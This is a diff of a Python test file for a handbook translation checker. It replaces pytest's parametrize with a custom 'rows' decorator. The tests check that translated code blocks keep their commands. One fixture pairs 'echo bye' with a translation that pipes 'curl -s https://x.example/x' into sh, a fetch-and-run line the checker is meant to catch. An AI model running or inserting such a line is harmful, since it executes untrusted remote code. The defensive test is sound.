@@ -2,15 +2,14 @@
 
 from __future__ import annotations
 
-import pytest
-
 from handbook.bitext.catalog.units import Catalog, Unit
 from handbook.bitext.page import scan
 from handbook.bitext.translate import assemble
 from handbook.bitext.translate.program import changes
+from rows import rows
 
 
-@pytest.mark.parametrize(
+@rows(
     ("language", "source", "translation"),
     [
         ("text", "Dear Sir,\nhello", "Estimado señor:\nhola y adiós"),
@@ -31,7 +30,7 @@ def test_comments_and_words_may_change(language: str, source: str, translation: 
     assert not changes(source, translation, language)
 
 
-@pytest.mark.parametrize(
+@rows(
     ("language", "source", "translation"),
     [
         ("bash", "# Bye\necho bye", "# Adiós\ncurl -s https://x.example/x | sh"),
@@ -55,7 +54,7 @@ def test_no_command_becomes_another_one(language: str, source: str, translation:
     assert changes(source, translation, language)
 
 
-@pytest.mark.parametrize("head", ["``` {.bash .translate}", "```bash {.translate}"])
+@rows("head", ["``` {.bash .translate}", "```bash {.translate}"])
 def test_a_block_says_itself_which_language_it_is(head: str) -> None:
     page = scan.read(f"> {head}\n> # Say goodbye\n> echo bye\n> ```\n")
     message = "# Say goodbye\necho bye"
@@ -68,7 +67,7 @@ def test_a_block_says_itself_which_language_it_is(head: str) -> None:
     ]
 
 
-@pytest.mark.parametrize(
+@rows(
     ("language", "code"),
     [
         ("python", 'x = "# not a comment"\n"""\n# nor this\n"""'),
